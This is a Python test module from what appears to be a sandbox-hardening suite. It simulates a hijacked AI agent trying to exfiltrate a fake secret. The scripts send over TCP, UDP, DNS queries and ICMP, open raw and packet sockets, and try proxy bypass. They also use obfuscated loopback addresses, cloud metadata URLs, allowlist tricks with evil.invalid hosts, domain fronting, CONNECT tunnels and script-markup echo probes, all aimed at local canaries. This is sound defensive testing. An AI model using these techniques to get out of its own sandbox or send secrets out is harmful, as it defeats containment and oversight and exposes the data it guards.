"""Network exfiltration: every way out a hijacked agent would try, against canaries on the
host's loopback (never anything off the machine)."""

from __future__ import annotations

from collections.abc import Callable

from ..case import Case
from ..context import BAIT_ALLOWED, BAIT_BOUND, DrillContext
from ..model import Evidence, Outcome

Run = Callable[[DrillContext], Outcome]

# Sends the planted secret to host:port over TCP; prints what happened. Argv: host port data.
TCP_SEND = """
import socket, sys
host, port, data = sys.argv[1], int(sys.argv[2]), sys.argv[3]
try:
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect((host, port))
    s.sendall(data.encode())
    s.close()
    print("connected")
except OSError as e:
    print("failed", e.errno, e.strerror)
"""

UDP_SEND = """
import socket, sys
host, port, data = sys.argv[1], int(sys.argv[2]), sys.argv[3]
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in range(3):
        s.sendto(data.encode(), (host, port))
    print("sent")
except OSError as e:
    print("failed", e.errno, e.strerror)
"""

# A DNS query whose name carries the secret, straight to a "resolver" (the canary).
DNS_SEND = """
import socket, struct, sys
host, port, secret = sys.argv[1], int(sys.argv[2]), sys.argv[3]
qname = b"".join(bytes([len(p)]) + p.encode() for p in [secret[:60], "exfil", "invalid"])
packet = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + qname + b"\\0" + b"\\0\\1\\0\\1"
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.sendto(packet, (host, port))
    print("sent")
except OSError as e:
    print("failed", e.errno, e.strerror)
"""

# Whether the kernel has a route to an address, found with a UDP connect (sends nothing).
ROUTE_CHECK = """
import socket, sys
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((sys.argv[1], 80))
    print("route via", s.getsockname()[0])
except OSError as e:
    print("no route", e.errno, e.strerror)
"""

# One HTTP request through the proxy the sandbox was given (or directly, with none).
HTTP_TRY = """
import json, os, sys, urllib.error, urllib.parse, urllib.request
url = sys.argv[1]
headers = json.loads(sys.argv[2]) if len(sys.argv) > 2 else {}
proxy = os.environ.get("HTTP_PROXY") or os.environ.get("http_proxy")
# An agent steering traffic at loopback would not honour NO_PROXY either: make the gateway decide.
for name in ("NO_PROXY", "no_proxy"):
    os.environ.pop(name, None)
opener = urllib.request.build_opener(
    urllib.request.ProxyHandler({"http": proxy, "https": proxy} if proxy else {}))
if not proxy:
    # With no gateway the request would go straight out: only loopback addresses (the canary)
    # are tried, by address, without DNS, so a drill on a broken configuration never sends
    # anything off the machine.
    import ipaddress, socket
    parts = urllib.parse.urlsplit(url)
    host, port = parts.hostname or "", parts.port or 80
    address = None
    if host == "localhost":
        address = "127.0.0.1"
    else:
        try:
            ip = ipaddress.ip_address(host)
            mapped = getattr(ip, "ipv4_mapped", None)
            if (mapped or ip).is_loopback:
                address = str(mapped or ip)
        except ValueError:
            try:
                packed = socket.inet_aton(host)
                address = socket.inet_ntoa(packed) if packed[0] == 127 else None
            except OSError:
                pass
    if address is None:
        print("no gateway; a direct request to", host, "was not attempted")
    else:
        try:
            s = socket.create_connection((address, port), timeout=3)
            s.sendall(f"GET {parts.path or '/'}?{parts.query} HTTP/1.0\\r\\n\\r\\n".encode())
            print("sent directly to", address)
        except OSError as e:
            print("error", e.errno, e.strerror)
    print("proxy", False)
    sys.exit(0)
try:
    with opener.open(urllib.request.Request(url, headers=headers), timeout=5) as r:
        print("status", r.status, r.headers.get("X-Corral-Egress"))
except urllib.error.HTTPError as e:
    print("status", e.code, e.headers.get("X-Corral-Egress"))
except Exception as e:
    print("error", type(e).__name__, str(e)[:200])
print("proxy", bool(proxy))
"""

# A hand-written request to the proxy, for what HTTP clients refuse to send.
RAW_PROXY = """
import os, socket, sys, urllib.parse
proxy = os.environ.get("HTTP_PROXY") or os.environ.get("http_proxy")
request = sys.argv[1].encode().decode("unicode_escape").encode()
if proxy:
    p = urllib.parse.urlsplit(proxy)
    target = (p.hostname, p.port)
else:
    target = ("127.0.0.1", int(sys.argv[2]))
try:
    s = socket.create_connection(target, timeout=5)
    s.sendall(request)
    s.settimeout(5)
    print("answer", s.recv(200).split(b"\\r\\n")[0].decode(errors="replace"))
except OSError as e:
    print("failed", e.errno, e.strerror)
print("proxy", bool(proxy))
"""

PY = frozenset({"python3"})


def _py(ctx: DrillContext, script: str, *args: str,
        timeout: float = 30) -> tuple[str, list[Evidence]]:
    result = ctx.run(["python3", "-c", script, *args], timeout=timeout)
    return result.stdout + result.stderr, ctx.evidence(result)


def _direct_tcp(host_of: str) -> Run:
    def run(ctx: DrillContext) -> Outcome:
        host = ctx.host_address if host_of == "host" else host_of
        with ctx.watching() as watch:
            out, evidence = _py(ctx, TCP_SEND, host or "", str(ctx.canary.tcp_port),
                                ctx.fake_secret)
        if "connected" in out and not watch.hits:
            return Outcome("breached", f"a TCP connection to {host} succeeded: {out.strip()}",
                           tuple(evidence))
        return watch.outcome(f"no connection: {out.strip()}", evidence)
    return run


def _udp(ctx: DrillContext) -> Outcome:
    with ctx.watching() as watch:
        out, evidence = _py(ctx, UDP_SEND, "127.0.0.1", str(ctx.canary.udp_port), ctx.fake_secret)
    return watch.outcome(f"nothing arrived: {out.strip()}", evidence)


def _dns(ctx: DrillContext) -> Outcome:
    with ctx.watching() as watch:
        out, evidence = _py(ctx, DNS_SEND, "127.0.0.1", str(ctx.canary.udp_port), ctx.fake_secret)
    return watch.outcome(f"no query arrived: {out.strip()}", evidence)


def _route(address: str, what: str) -> Run:
    def run(ctx: DrillContext) -> Outcome:
        out, evidence = _py(ctx, ROUTE_CHECK, address)
        if "route via" in out:
            return Outcome("breached", f"{what} ({address}) is routable: {out.strip()}",
                           tuple(evidence))
        return Outcome("held", f"no route to {what}: {out.strip()}", tuple(evidence))
    return run


def _host_route(ctx: DrillContext) -> Outcome:
    if not ctx.host_address:
        return Outcome("skipped", "the host has no non-loopback IPv4 address to aim at")
    return _route(ctx.host_address, "the host's own address")(ctx)


# One ICMP echo request to the host's own address: an unprivileged "ping" socket, else a raw
# one. Prints "reply" when the host answered.
ICMP_ECHO = """
import socket, struct, sys
def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF
header = struct.pack("!BBHHH", 8, 0, 0, 0x4344, 1) + b"corral-drill"
packet = header[:2] + struct.pack("!H", checksum(header)) + header[4:]
for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
    try:
        s = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
    except OSError as e:
        print("no socket", kind, e.strerror)
        continue
    s.settimeout(1)
    try:
        s.sendto(packet, (sys.argv[1], 0))
        s.recvfrom(1024)
        print("reply")
    except OSError as e:
        print("no reply", e.strerror or e)
    break
"""


def _icmp(ctx: DrillContext) -> Outcome:
    if not ctx.host_address:
        return Outcome("skipped", "the host has no non-loopback IPv4 address to aim at")
    out, evidence = _py(ctx, ICMP_ECHO, ctx.host_address)
    if "reply" in out.split():
        return Outcome("breached", f"the host answered a ping: {out.strip()[:200]}",
                       tuple(evidence))
    return Outcome("held", f"no echo reply: {out.strip()[:200]}", tuple(evidence))


def _through_gateway(url_template: str, *, headers: str = "{}") -> Run:
    """Held when the canary saw nothing and (with a gateway) the gateway refused it."""
    def run(ctx: DrillContext) -> Outcome:
        url = ctx.fmt(url_template)
        with ctx.watching() as watch:
            result = ctx.run(["python3", "-c", HTTP_TRY, url, headers])
        out = (result.stdout + result.stderr).strip()
        evidence = ctx.evidence(result)
        outcome = watch.outcome(f"refused: {out}", evidence)
        if outcome.verdict != "held":
            return outcome
        if "status 2" in out:
            return Outcome("breached", f"{url} answered: {out}", tuple(evidence))
        if "proxy True" in out and not ctx.denials(result):
            # Nothing got out, but the gateway should have said no in so many words.
            return Outcome("error", f"no refusal was recorded for {url}: {out}",
                           tuple(evidence))
        return outcome
    return run


def _raw_to_gateway(request_template: str, what: str) -> Run:
    """Send a hand-written request to the gateway: held when it refused (no 200) and the canary
    saw nothing."""
    def run(ctx: DrillContext) -> Outcome:
        request = request_template.format(allowed=BAIT_ALLOWED, port=ctx.canary.tcp_port,
                                          secret=ctx.fake_secret)
        with ctx.watching() as watch:
            result = ctx.run(["python3", "-c", RAW_PROXY, request, str(ctx.canary.tcp_port)])
        out = (result.stdout + result.stderr).strip()
        evidence = ctx.evidence(result)
        outcome = watch.outcome(f"refused: {out}", evidence)
        if outcome.verdict == "held" and " 200 " in out:
            return Outcome("breached", f"the gateway {what}: {out}", tuple(evidence))
        return outcome
    return run


_fronting = _raw_to_gateway(
    "GET http://{allowed}/ HTTP/1.1\\r\\nHost: 127.0.0.1:{port}\\r\\nX-Leak: {secret}"
    "\\r\\nConnection: close\\r\\n\\r\\n", "forwarded a fronted request")
_connect_literal = _raw_to_gateway(
    "CONNECT 127.0.0.1:{port} HTTP/1.1\\r\\nHost: 127.0.0.1:{port}\\r\\n\\r\\n",
    "opened a tunnel to loopback")


def _secret_wrong_host(ctx: DrillContext) -> Outcome:
    """The placeholder of a secret bound to one host, sent to another allowed host, must stay a
    placeholder: the gateway only swaps it in on connections it intercepts for the bound host."""
    assert ctx.host_secret_name and ctx.host_secret_value
    result = ctx.run(
        f'python3 -c "$SCRIPT" "https://{BAIT_ALLOWED}/?token=${ctx.host_secret_name}" ; '
        f'python3 -c "$SCRIPT" "http://{BAIT_ALLOWED}/?token=${ctx.host_secret_name}" ; '
        f'python3 -c "$SCRIPT" "http://{BAIT_BOUND}/?token=${ctx.host_secret_name}"',
        envs={"SCRIPT": HTTP_TRY})
    out = result.stdout + result.stderr
    evidence = ctx.evidence(result)
    leaked = ctx.leaked(out)
    intercepted_wrong = [e for e in evidence if e.kind == "gateway" and BAIT_ALLOWED in e.detail
                         and "mode=intercept" in e.detail]
    bound_plain = [e for e in evidence if e.kind == "gateway" and BAIT_BOUND in e.detail
                   and "mode=intercept" in e.detail]
    if leaked or intercepted_wrong or bound_plain:
        return Outcome("breached", "the secret's value could reach a host it is not bound to "
                       f"(leaked in output: {bool(leaked)}, intercepted: "
                       f"{len(intercepted_wrong) + len(bound_plain)})", tuple(evidence))
    if not any(e.kind == "gateway" for e in evidence):
        return Outcome("error", f"no gateway decision was recorded: {out.strip()[:200]}",
                       tuple(evidence))
    return Outcome("held", "the wrong host and plain HTTP only ever saw the placeholder "
                   "(tunnelled, not intercepted)", tuple(evidence))


def _resolver(ctx: DrillContext) -> Outcome:
    result = ctx.run("grep -h '^nameserver' /etc/resolv.conf 2>/dev/null; "
                     "ls /run/systemd/resolve /var/run/nscd 2>/dev/null; echo done")
    out = result.stdout.strip()
    lines = [line for line in out.splitlines() if line != "done"]
    if lines:
        return Outcome("breached", f"a resolver is configured or reachable: {lines[:3]}",
                       tuple(ctx.evidence(result)))
    return Outcome("held", "no nameserver and no resolver socket inside",
                   tuple(ctx.evidence(result)))


# A hand-written request to the gateway, its whole answer printed as JSON: what a refusal
# echoes of the request. Argv: the request (unicode-escaped).
RAW_ANSWER = """
import json, os, socket, sys, urllib.parse
proxy = os.environ.get("HTTP_PROXY") or os.environ.get("http_proxy")
if not proxy:
    print(json.dumps({"proxy": False}))
    sys.exit(0)
p = urllib.parse.urlsplit(proxy)
s = socket.create_connection((p.hostname, p.port), timeout=5)
s.sendall(sys.argv[1].encode().decode("unicode_escape").encode("latin-1"))
s.settimeout(5)
data = b""
try:
    while len(data) < 65536 and (chunk := s.recv(65536)):
        data += chunk
except OSError:
    pass
print(json.dumps({"proxy": True, "answer": data.decode("latin-1")}))
"""

_MARKUP = "<script>alert(1)</script>"
_LONG_NAME = f"{'a' * 63}.{'b' * 63}.{'c' * 63}.evil.invalid"
# (request, may its answer quote the markup sent?). A refusal by the policy says only what the
# gateway checked (the normalised host), so never the markup; a malformed request's reason
# quotes it, in a text/plain body, bounded and printable.
_ECHO_REQUESTS = (
    (f"GET http://{_LONG_NAME}/{_MARKUP} HTTP/1.1\\r\\nHost: {_LONG_NAME}\\r\\n"
     f"X-Echo: \\xff\\xfe{_MARKUP}\\r\\n\\r\\n", False),
    (f"CONNECT {_LONG_NAME}:443 HTTP/1.1\\r\\nHost: {_LONG_NAME}:443\\r\\n"
     f"User-Agent: {_MARKUP}\\r\\n\\r\\n", False),
    (f"CONNECT {_MARKUP}.invalid:443 HTTP/1.1\\r\\nHost: {_MARKUP}.invalid:443\\r\\n\\r\\n",
     True),
    (f"GET http://{BAIT_ALLOWED}/ HTTP/1.1\\r\\nHost: \\xff\\xfe{_MARKUP}{'x' * 4000}"
     "\\r\\n\\r\\n", True),
)


def _refusal_echo(ctx: DrillContext) -> Outcome:
    """A refusal must not carry the request's bytes back as they were sent: its answer is
    text/plain, short, printable ASCII (no terminal escapes), without the markup sent."""
    import json

    evidence: list[Evidence] = []
    for request, may_quote in _ECHO_REQUESTS:
        with ctx.watching() as watch:
            result = ctx.run(["python3", "-c", RAW_ANSWER, request])
        evidence += ctx.evidence(result)
        try:
            seen = json.loads(result.stdout)
        except ValueError:
            return Outcome("error", f"no answer: {(result.stdout + result.stderr)[:200]}",
                           tuple(evidence))
        if not seen.get("proxy"):
            return Outcome("skipped", "no gateway answers this sandbox", tuple(evidence))
        answer = seen["answer"]
        head, _, body = answer.partition("\r\n\r\n")
        status = head.split("\r\n", 1)[0]
        problems = []
        if " 200 " in status + " " or not status.startswith("HTTP/1.1 4"):
            problems.append(f"answered {status[:80]!r}")
        if "content-type: text/plain" not in head.lower():
            problems.append("not text/plain")
        if len(answer) > 8192:
            problems.append(f"{len(answer)} bytes long")
        if any(not (" " <= c <= "~" or c in "\r\n") for c in answer):
            problems.append("bytes past printable ASCII (terminal escapes?) in the answer")
        if _MARKUP in answer and not may_quote:
            problems.append("the request's markup echoed by a refusal of the policy")
        if problems or watch.hits:
            return Outcome("breached", f"a refusal echoed the request: {'; '.join(problems)}",
                           tuple(evidence))
    if not any(e.kind == "gateway" and e.detail.startswith("denied") for e in evidence):
        return Outcome("error", "no refusal was recorded", tuple(evidence))
    return Outcome("held", "every refusal was short printable text/plain; the policy's "
                   "refusals echoed nothing of the request but its host", tuple(evidence))


def _none_gateway(ctx: DrillContext) -> Outcome:
    """A sandbox with network "none" gets a gateway that only refuses: a request to the canary
    through it (by name and as a tunnel) gets out nowhere, and is recorded as refused."""
    sb = ctx.fresh()
    try:
        url = ctx.fmt("http://localhost:{port}/?k={secret}")
        target = f"localhost:{ctx.canary.tcp_port}"
        request = f"CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n"
        with ctx.watching() as watch:
            tried = ctx.run(["python3", "-c", HTTP_TRY, url], sandbox=sb)
            raw = ctx.run(["python3", "-c", RAW_PROXY, request, str(ctx.canary.tcp_port)],
                          sandbox=sb)
        out = (tried.stdout + raw.stdout + tried.stderr + raw.stderr).strip()
        evidence = ctx.evidence(tried, sb) + ctx.evidence(raw, sb)
    finally:
        ctx.discard(sb)
    outcome = watch.outcome(f"refused: {out[:300]}", evidence)
    if outcome.verdict != "held":
        return outcome
    if "status 2" in out or " 200 " in out:
        return Outcome("breached", f"the gateway let a sandbox without network out: {out}",
                       tuple(evidence))
    if "proxy True" in out and not [e for e in evidence
                                    if e.kind == "gateway" and "rule=network=none" in e.detail]:
        return Outcome("error", f"no refusal by network=none was recorded: {out[:200]}",
                       tuple(evidence))
    return outcome


def _raw_socket(family: str) -> Run:
    def run(ctx: DrillContext) -> Outcome:
        script = ("import socket\n"
                  f"try:\n    socket.socket({family})\n    print('opened')\n"
                  "except OSError as e:\n    print('refused', e.errno, e.strerror)\n")
        out, evidence = _py(ctx, script)
        if "opened" in out:
            return Outcome("breached", f"socket({family}) opened", tuple(evidence))
        return Outcome("held", out.strip(), tuple(evidence))
    return run


CASES = [
    Case("net.tcp-loopback", "network", "TCP to the host's 127.0.0.1 canary with the planted "
         "secret", "no connection reaches the canary", _direct_tcp("127.0.0.1"), PY),
    Case("net.tcp-ipv6-loopback", "network", "TCP to the host's [::1] canary",
         "no connection reaches the canary", _direct_tcp("::1"), PY),
    Case("net.tcp-host-address", "network", "route to the host's own network address",
         "the kernel has no route there", _host_route, PY),
    Case("net.route-internet", "network", "route to an Internet address (TEST-NET, nothing sent)",
         "no route", _route("192.0.2.1", "the Internet"), PY),
    Case("net.route-metadata", "network", "route to the cloud metadata service 169.254.169.254",
         "no route", _route("169.254.169.254", "the metadata service"), PY),
    Case("net.udp-loopback", "network", "UDP datagrams with the secret to the host's canary",
         "no datagram arrives", _udp, PY),
    Case("net.dns-exfil", "network", "a DNS query carrying the secret, sent to a resolver on the "
         "host", "no query arrives", _dns, PY),
    Case("net.resolver", "network", "find a DNS resolver to tunnel through",
         "none is configured or reachable", _resolver),
    Case("net.icmp", "network", "ping the host's own address (ICMP tunnels)",
         "no echo reply", _icmp, PY),
    Case("net.raw-socket", "network", "open a raw IP socket (to forge packets)",
         "socket() is refused", _raw_socket("socket.AF_INET, socket.SOCK_RAW, 6"), PY),
    Case("net.packet-socket", "network", "open an AF_PACKET socket (to sniff or inject frames)",
         "socket() is refused", _raw_socket("socket.AF_PACKET, socket.SOCK_RAW"), PY),
    Case("net.netlink", "network", "open a netlink socket (to add routes or interfaces)",
         "socket() is refused", _raw_socket("socket.AF_NETLINK, socket.SOCK_RAW, 0"), PY),
    Case("net.proxy-bypass", "network", "ignore the proxy and connect straight to localhost",
         "no connection reaches the canary", _direct_tcp("localhost"), PY),
    Case("net.ip-literal", "network", "http://127.0.0.1:PORT through the gateway",
         "the gateway refuses; the canary sees nothing",
         _through_gateway("http://127.0.0.1:{port}/?k={secret}"), PY),
    Case("net.ip-decimal", "network", "http://2130706433:PORT (127.0.0.1 as one number)",
         "the gateway refuses; the canary sees nothing",
         _through_gateway("http://2130706433:{port}/?k={secret}"), PY),
    Case("net.ip-hex", "network", "http://0x7f000001:PORT (127.0.0.1 in hex)",
         "the gateway refuses; the canary sees nothing",
         _through_gateway("http://0x7f000001:{port}/?k={secret}"), PY),
    Case("net.ip-octal", "network", "http://0177.0.0.1:PORT (127.0.0.1 in octal)",
         "the gateway refuses; the canary sees nothing",
         _through_gateway("http://0177.0.0.1:{port}/?k={secret}"), PY),
    Case("net.ip-short", "network", "http://127.1:PORT (the short form)",
         "the gateway refuses; the canary sees nothing",
         _through_gateway("http://127.1:{port}/?k={secret}"), PY),
    Case("net.ipv6-loopback", "network", "http://[::1]:PORT through the gateway",
         "the gateway refuses; the canary sees nothing",
         _through_gateway("http://[::1]:{port}/?k={secret}"), PY),
    Case("net.ipv6-mapped", "network", "http://[::ffff:127.0.0.1]:PORT (IPv4-mapped IPv6)",
         "the gateway refuses; the canary sees nothing",
         _through_gateway("http://[::ffff:127.0.0.1]:{port}/?k={secret}"), PY),
    Case("net.metadata", "network", "http://169.254.169.254/latest/meta-data/ through the gateway",
         "the gateway refuses without connecting",
         _through_gateway("http://169.254.169.254/latest/meta-data/"), PY),
    Case("net.metadata-name", "network", "http://metadata.google.internal/ (a metadata name)",
         "the gateway refuses",
         _through_gateway("http://metadata.google.internal/computeMetadata/v1/"), PY),
    Case("net.private-name", "network", "an allowed name that resolves to loopback "
         "(http://localhost:PORT, allowed by the drill's bait rules)",
         "the gateway refuses by address; the canary sees nothing",
         _through_gateway("http://localhost:{port}/?k={secret}"), PY),
    Case("net.allowlist-suffix", "network", f"http://{BAIT_ALLOWED}.evil.invalid "
         "(the allowed name as a prefix)", "refused by rule",
         _through_gateway(f"http://{BAIT_ALLOWED}.evil.invalid/?k={{secret}}"), PY),
    Case("net.allowlist-prefix", "network", f"http://evil{BAIT_ALLOWED} (the allowed name as a "
         "suffix without a dot)", "refused by rule",
         _through_gateway(f"http://evil{BAIT_ALLOWED}/?k={{secret}}"), PY),
    Case("net.allowlist-userinfo", "network", f"http://{BAIT_ALLOWED}@127.0.0.1:PORT "
         "(the allowed name as userinfo)", "refused; the canary sees nothing",
         _through_gateway(f"http://{BAIT_ALLOWED}@127.0.0.1:{{port}}/?k={{secret}}"), PY),
    Case("net.domain-fronting", "network", "request an allowed host but send Host: the canary",
         "the gateway refuses the mismatch; the canary sees nothing", _fronting, PY),
    Case("net.connect-literal", "network", "CONNECT 127.0.0.1:PORT (a tunnel to loopback)",
         "the gateway refuses; the canary sees nothing", _connect_literal, PY),
    Case("net.none-gateway", "network", "from a sandbox with network 'none', reach the "
         "canary through the refusing gateway (a request by name, a CONNECT)",
         "refused by network=none and recorded; the canary sees nothing", _none_gateway, PY),
    Case("net.refusal-echo", "network", "make a refusal carry the request back (markup, "
         "bytes past ASCII, a 4,000-byte header, a 200-character name)",
         "every refusal is short printable text/plain; the policy's echo only the host",
         _refusal_echo, PY),
    Case("net.secret-wrong-host", "network", "send a secret's placeholder to an allowed host it "
         "is not bound to, and to its bound host over plain HTTP",
         "only the placeholder leaves; the gateway intercepts nothing but the bound host over "
         "TLS", _secret_wrong_host, PY | {"admin"}),
]
